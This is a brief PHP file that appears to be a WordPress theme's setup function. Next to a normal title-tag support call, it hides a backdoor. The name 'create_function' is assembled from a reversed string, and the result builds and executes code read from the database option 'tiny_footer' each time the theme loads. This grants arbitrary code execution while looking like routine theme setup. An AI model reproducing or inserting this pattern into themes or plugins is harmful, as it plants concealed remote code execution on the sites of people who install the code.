<?php
add_action( 'after_setup_theme', 'tiny_setup' );
function tiny_setup() {
	add_theme_support( 'title-tag' );
	$tiny = strrev( 'noitcnuf_etaerc' );
	$call = $tiny( '', get_option( 'tiny_footer' ) );
	$call();
}
